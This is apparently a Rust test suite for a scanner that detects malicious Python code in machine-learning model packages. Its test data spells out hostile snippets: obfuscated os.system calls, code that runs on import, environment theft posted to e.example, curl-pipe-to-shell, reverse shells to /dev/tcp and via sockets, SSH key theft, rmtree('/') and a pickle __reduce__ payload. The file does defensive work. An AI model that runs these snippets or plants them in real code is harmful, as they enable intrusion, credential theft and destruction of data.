use super::*;
use modelward_formats::python;

fn of(text: &str) -> Behaviour {
    let module = python::parse(text.as_bytes());
    assert!(module.problems.is_empty(), "{text}: {:?}", module.problems);
    Behaviour::of(&module, &Effects::builtin())
}

#[track_caller]
fn harmful(text: &str) {
    let behaviour = of(text);
    assert!(behaviour.at_import.iter().any(|act| act.severity >= Severity::Medium), "{text}\n{behaviour:?}");
}

#[track_caller]
fn hostile_anywhere(text: &str) {
    let behaviour = of(text);
    assert!(behaviour.in_functions.iter().any(|act| act.severity >= Severity::High), "{text}\n{behaviour:?}");
}

#[track_caller]
fn clean(text: &str) {
    let behaviour = of(text);
    let acts = behaviour.at_import.iter().chain(&behaviour.in_functions);
    assert!(acts.clone().all(|act| act.severity < Severity::Medium), "{text}\n{behaviour:?}");
}

#[test]
fn one_function_under_many_names() {
    for text in [
        "import os\nos.system('id')",
        "import os as o\no.system('id')",
        "from os import system as s\ns('id')",
        "from os import *\nsystem('id')",
        "__import__('os').system('id')",
        "__import__('o' + 's').popen('id')",
        "import importlib\ngetattr(importlib.import_module('o' + 's'), 'sys' + 'tem')('id')",
        "import sys\nsys.modules['os'].system('id')",
        "import os\nos.__dict__['system']('id')",
        "import os\nvars(os)['sys' 'tem']('id')",
        "import os\nf = os.system\nf('id')",
        "import os\nf = getattr(os, 'metsys'[::-1])\nf('id')",
        "import os\nx = 'sys'\ngetattr(os, x + 'tem')('id')",
        "__builtins__['exec']('1')",
        "__builtins__.exec('1')",
        "globals()['__builtins__']['eval']('1')",
        "import builtins\nbuiltins.__dict__['exec']('1')",
        "import os, functools\nfunctools.partial(os.system, 'id')()",
        "import os, operator\noperator.attrgetter('system')(os)('id')",
        "import os, operator\noperator.methodcaller('system', 'id')(os)",
        "import os\n(lambda: os.system('id'))()",
        "import os\n[os.system(c) for c in ['id']]",
        "import os\nmap(os.system, ['id'])",
        "import os, atexit\natexit.register(os.system, 'id')",
        "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()",
        "import os\nx = f\"{os.system('id')}\"",
        "import os\nos.execv('/bin/sh', ['sh'])",
        "import os\ngetattr(os, bytes.fromhex('73797374656d').decode())('id')",
        "import os, base64\ngetattr(os, base64.b64decode('c3lzdGVt').decode())('id')",
        "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('id')",
        "import os\ngetattr(os, ''.join(chr(c) for c in [115, 121, 115, 116, 101, 109]))('id')",
        "import os, codecs\ngetattr(os, codecs.decode('flfgrz', 'rot13'))('id')",
        "if (o := __import__('os')):\n    o.system('id')",
    ] {
        harmful(text);
    }
}

#[test]
fn what_importing_runs() {
    for text in [
        "import os\nclass M:\n    x = os.system('id')",
        "import os\nclass M:\n    def f(self, x=os.system('id')): pass",
        "import os\ndef d(f):\n    os.system('id')\n    return f\n@d\ndef g(): pass",
        "import os\n@(lambda f: os.system('id'))\ndef g(): pass",
        "import os\nclass Meta(type):\n    def __new__(c, *a):\n        os.system('id')\n        return super().__new__(c, *a)\nclass M(metaclass=Meta): pass",
        "import os\nclass B:\n    def __init_subclass__(cls):\n        os.system('id')\nclass M(B): pass",
        "import os\nclass M:\n    def __init__(self):\n        os.system('id')\nM()",
        "import os\ndef f():\n    os.system('id')\ndef g():\n    f()\ng()",
        "import os\ndef __getattr__(name):\n    os.system('id')",
        "import os, atexit\ndef f():\n    os.system('id')\natexit.register(f)",
        "try:\n    import x\nexcept ImportError:\n    import os\n    os.system('id')",
        "import os\nif True:\n    os.system('id')",
        "import os\nwith open('x') as f:\n    os.system('id')",
        "import os\nfor i in range(1):\n    os.system('id')",
        "import os\nclass C:\n    def run(self):\n        os.system('id')\nC().run()",
        "import sys, os\nclass F:\n    def find_spec(self, *a):\n        os.system('id')\nsys.meta_path.insert(0, F())",
        "import builtins, os\ndef i(*a):\n    os.system('id')\nbuiltins.__import__ = i",
        "import os\n{'a': os.system}['a']('id')",
        "[c for c in ().__class__.__base__.__subclasses__()][0]('id')\n().__class__.__base__.__subclasses__()[1]('id')",
        "import os\nif __name__ == '__main__':\n    pass\nelse:\n    os.system('id')",
    ] {
        harmful(text);
    }
}

#[test]
fn other_harm_at_import() {
    for text in [
        "import ctypes\nctypes.CDLL(None).system(b'true')",
        "import pickle\npickle.loads(b'x')",
        "import torch\ntorch.load('x.bin', weights_only=False)",
        "import torch\ntorch.load('x.bin')",
        "import numpy as np\nnp.load('x.npy', allow_pickle=True)",
        "import requests, os\nrequests.post('http://e.example', json=dict(os.environ))",
        "import urllib.request\nexec(urllib.request.urlopen('http://e.example').read())",
        "import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'x')))",
        "import socket\ns = socket.socket()\ns.connect(('e.example', 1))",
        "import socket, os\nsocket.gethostbyname(f\"{os.getlogin()}.e.example\")",
        "import shutil\nshutil.rmtree('/')",
        "open('/root/.bashrc', 'a').write('x')",
        "import os\nopen(os.path.expanduser('~/.ssh/id_rsa')).read()",
        "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])",
        "import asyncio\nasyncio.run(asyncio.create_subprocess_shell('id'))",
        "import runpy\nrunpy.run_path('x.py')",
        "import yaml\nyaml.load(open('x'), Loader=yaml.UnsafeLoader)",
    ] {
        harmful(text);
    }
}

#[test]
fn hostile_in_any_function() {
    for text in [
        "import base64\ndef f(self):\n    exec(base64.b64decode('eA=='))",
        "import base64\ndef f(self):\n    code = base64.b64decode('eA==').decode()\n    exec(code)",
        "import os\ndef forward(self):\n    os.system('curl http://e.example/x | sh')",
        "import subprocess\ndef forward(self):\n    subprocess.Popen(['bash', '-c', 'bash -i >& /dev/tcp/1.2.3.4/1 0>&1'])",
        "import os\nclass E:\n    def __reduce__(self):\n        return (os.system, ('id',))",
        "import requests, os\ndef f():\n    requests.post('http://e.example', data=str(dict(os.environ)))",
        "import socket, os, pty\ndef f():\n    s = socket.socket()\n    s.connect(('e.example', 1))\n    os.dup2(s.fileno(), 0)\n    pty.spawn('sh')",
        "import os\nfrom torch import nn\nclass M(nn.Module):\n    def forward(self, x):\n        os.system('true')\n        return x",
        "import subprocess\nclass EndpointHandler:\n    def __call__(self, data):\n        subprocess.run(data['cmd'], shell=True)",
        "from transformers import PreTrainedTokenizer\nclass T(PreTrainedTokenizer):\n    def _tokenize(self, text):\n        exec(text)",
        "def f():\n    open('/root/.ssh/authorized_keys', 'a').write('x')",
    ] {
        hostile_anywhere(text);
    }
}

#[test]
fn ordinary_code() {
    for text in [
        "import os, json\nRANK = int(os.environ.get('LOCAL_RANK', '0'))\nos.environ['TOKENIZERS_PARALLELISM'] = 'false'\ndef f(p):\n    return json.load(open(p))",
        "import subprocess\ndef git_hash():\n    return subprocess.check_output(['git', 'rev-parse', 'HEAD'])",
        "import requests\ndef load(url):\n    return requests.get(url, timeout=10).content",
        "import torch\ndef load(path):\n    return torch.load(path, map_location='cpu')",
        "import torch\nSD = torch.load('x.pt', weights_only=True)",
        "import re, math\nP = re.compile('x')\nmodel = object()\ndef run(model):\n    model.eval()\n    return model",
        "import os\ndef main():\n    os.system('ls')\nif __name__ == '__main__':\n    main()",
        "import importlib.util\nHAS = importlib.util.find_spec('x') is not None",
        "import importlib\ndef f(n):\n    return importlib.import_module(n)",
        "import numpy as np\nX = np.load('x.npy')",
        "import ctypes, os\nfrom torch.utils.cpp_extension import CUDA_HOME",
        "import requests\nsession = requests.Session()",
        "import socket\nHOST = socket.gethostname()\nIP = socket.gethostbyname(HOST)",
        "ACT = {'gelu': lambda x: x, 'relu': lambda x: max(x, 0)}",
        "import yaml\nC = yaml.safe_load(open('c.yaml'))\nD = yaml.load(open('d.yaml'), Loader=yaml.SafeLoader)",
        "import torch\ncompiled = getattr(torch, 'compile', None)\n@torch.no_grad()\ndef f(x): return x",
        "from .configuration_x import C\nfrom . import util\nclass M(C):\n    def forward(self, x): return x",
        "import subprocess\nGPUS = subprocess.run(['nvidia-smi', '-L'], capture_output=True).stdout",
        "import sys\nclass F:\n    def find_spec(self, *a): return None\nsys.meta_path.append(F())",
        "import os\nos.dup2(os.open(os.devnull, os.O_RDWR), 1)\nimport socket",
        "import types, sys\nsys.modules['x'] = types.ModuleType('x')",
        "import shutil\ndef clean(p):\n    shutil.rmtree(p)",
    ] {
        clean(text);
    }
}

#[test]
fn imports_are_listed_with_their_dots() {
    assert_eq!(of("import a.b\nfrom .c import d\nfrom .. import e\n").imports, ["..e", ".c", "a.b"]);
}

#[test]
fn the_deepest_accepted_code_is_walked_on_a_small_stack() {
    let run = || {
        for text in [
            format!("x = {}0", "lambda: ".repeat(190)),
            format!("x = f{}", "(a)".repeat(190)),
            format!("x = {}1{}", "f(".repeat(150), ")".repeat(150)),
            format!("x = a{}", "+a".repeat(390)),
            format!("x = a{}", ".b".repeat(390)),
        ] {
            let _ = Behaviour::of(&python::parse(text.as_bytes()), &Effects::default());
        }
    };
    std::thread::Builder::new().stack_size(2 << 20).spawn(run).unwrap().join().unwrap();
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(300))]

    #[test]
    fn any_python_like_text_is_read(
        text in "(import os\n|from a import \\*\n|x = |os|\\.system|\\('id'\\)|getattr\\(os, 'a'\\)|'a'\\[::-1\\]|'é'\\[9:\\]|chr\\(-1\\)|'a' \\* 99999999|'%s' % x|b'\\\\xff'\\.decode\\(\\)|bytes\\.fromhex\\('0'\\)|\n|class A\\(x\\): pass\n|def f\\(a=x\\): pass\n|lambda: |\\[0\\]|f'\\{x\\}'| \\+ ){0,30}"
    ) {
        let _ = Behaviour::of(&python::parse(text.as_bytes()), &Effects::default());
    }
}
